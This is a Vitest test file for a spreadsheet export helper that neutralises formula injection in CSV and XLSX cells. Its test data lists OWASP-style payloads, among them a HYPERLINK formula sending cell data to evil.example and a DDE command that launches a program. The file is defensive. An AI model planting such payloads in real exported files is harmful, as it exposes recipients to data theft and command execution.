import { describe, expect, it } from 'vitest';
import { csvField, neutraliseFormula, xlsxCell } from '../../../shared/export/spreadsheet-cell';

// OWASP's list: each of these at the start of a cell starts a formula in Excel or LibreOffice.
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

describe('neutraliseFormula', () => {
  it.each(FORMULAS)('puts a quote before text that would start a formula: %j', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it('neutralises text that only looks like a number, such as a phone number', () => {
    expect(neutraliseFormula('+47 22 33 44 55')).toBe("'+47 22 33 44 55");
    expect(neutraliseFormula('-5')).toBe("'-5");
  });

  it('leaves other text as it is, including a formula sign further in', () => {
    for (const text of ['Fjordbruk AS', '22 33 44 55', 'a=b', ' =1+1', "'quoted", '', 'Ørsta – Volda']) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });
});

describe('csvField', () => {
  it.each(FORMULAS)('quotes and neutralises %j', (text) => {
    expect(csvField(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
  });

  it('writes real numbers plainly, negative ones too', () => {
    expect(csvField(-12.5)).toBe('-12.5');
    expect(csvField(42)).toBe('42');
  });

  it('quotes quotes, commas, semicolons, tabs and line breaks, and leaves plain text bare', () => {
    expect(csvField('Nordmann, Ola')).toBe('"Nordmann, Ola"');
    expect(csvField('say "hei"')).toBe('"say ""hei"""');
    expect(csvField('a;b')).toBe('"a;b"');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField('Tromsø')).toBe('Tromsø');
    expect(csvField(null)).toBe('');
  });
});

describe('xlsxCell', () => {
  it('neutralises text and keeps numbers, dates and empty cells as they are', () => {
    const day = new Date(Date.UTC(2026, 0, 2));
    expect(FORMULAS.map(xlsxCell)).toEqual(FORMULAS.map((f) => `'${f}`));
    expect(xlsxCell(-3)).toBe(-3);
    expect(xlsxCell(day)).toBe(day);
    expect(xlsxCell(null)).toBeNull();
    expect(xlsxCell('Fjordbruk AS')).toBe('Fjordbruk AS');
  });
});
